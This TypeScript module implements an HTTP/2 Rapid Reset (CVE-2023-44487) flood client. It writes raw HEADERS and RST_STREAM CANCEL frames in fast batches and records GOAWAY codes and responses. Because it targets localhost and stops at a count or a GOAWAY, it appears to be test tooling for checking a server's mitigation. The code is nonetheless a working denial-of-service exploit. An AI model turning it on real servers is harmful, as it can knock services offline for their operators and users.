/**
 * A rapid-reset client (CVE-2023-44487) written with raw HTTP/2 frames, since node:http2 cannot send a
 * stream's HEADERS and its RST_STREAM back to back without waiting for the event loop: opens an h2c
 * connection and sends `streams` pairs of HEADERS (a GET of `path`, END_STREAM) + RST_STREAM CANCEL, in
 * batches written as fast as the socket drains. Bounded: it stops at the count, at the first GOAWAY, or
 * when the server closes the connection.
 */
import { once } from 'node:events'
import net from 'node:net'
import { H2_PREFACE, h2Frame } from './h2-frame.ts'

export interface FloodOutcome {
  /** HEADERS + RST_STREAM pairs written before the flood stopped. */
  sent: number
  /** The error code of the first GOAWAY received, or null. */
  goaway: number | null
  /** Responses (HEADERS frames) the server sent, for streams it answered before seeing their reset. */
  responses: number
}

const BATCH = 500

/** HPACK (RFC 7541): `:method GET`, `:scheme http` by static index; `:path` and `:authority` as literals. */
function requestBlock (path: string): Buffer {
  const literal = (index: number, value: string): Buffer => Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, 'latin1')])
  return Buffer.concat([Buffer.from([0x82, 0x86]), literal(0x04, path), literal(0x01, 'flood.test')])
}

export async function rapidReset (port: number, streams: number, path = '/'): Promise<FloodOutcome> {
  const socket = net.connect(port, '127.0.0.1')
  socket.on('error', () => {})
  await once(socket, 'connect')
  const outcome: FloodOutcome = { sent: 0, goaway: null, responses: 0 }
  let stopped = false
  const closed = once(socket, 'close').then(() => { stopped = true })

  let buf = Buffer.alloc(0)
  socket.on('data', (chunk: Buffer) => {
    buf = Buffer.concat([buf, chunk])
    while (buf.length >= 9) {
      const length = buf.readUIntBE(0, 3)
      if (buf.length < 9 + length) return
      const type = buf[3]!
      const flags = buf[4]!
      const payload = buf.subarray(9, 9 + length)
      buf = buf.subarray(9 + length)
      if (type === 0x4 && (flags & 0x1) === 0) socket.write(h2Frame(0x4, 0x1, 0, Buffer.alloc(0)))
      else if (type === 0x1) outcome.responses++
      else if (type === 0x7 && outcome.goaway === null) {
        outcome.goaway = payload.readUInt32BE(4)
        stopped = true
      }
    }
  })

  socket.write(Buffer.concat([H2_PREFACE, h2Frame(0x4, 0, 0, Buffer.alloc(0))]))
  const block = requestBlock(path)
  const cancel = Buffer.alloc(4)
  cancel.writeUInt32BE(0x8)
  let id = 1
  while (!stopped && outcome.sent < streams) {
    const frames: Buffer[] = []
    const n = Math.min(BATCH, streams - outcome.sent)
    for (let i = 0; i < n; i++, id += 2) {
      // END_HEADERS | END_STREAM, then the reset of the same stream.
      frames.push(h2Frame(0x1, 0x5, id, block), h2Frame(0x3, 0, id, cancel))
    }
    outcome.sent += n
    if (!socket.write(Buffer.concat(frames))) await Promise.race([once(socket, 'drain'), closed])
    // Let the server's answers in between batches, so a GOAWAY stops the flood.
    await new Promise((resolve) => setImmediate(resolve))
  }
  socket.end()
  await Promise.race([closed, once(socket, 'end')])
  socket.destroy()
  await closed
  return outcome
}
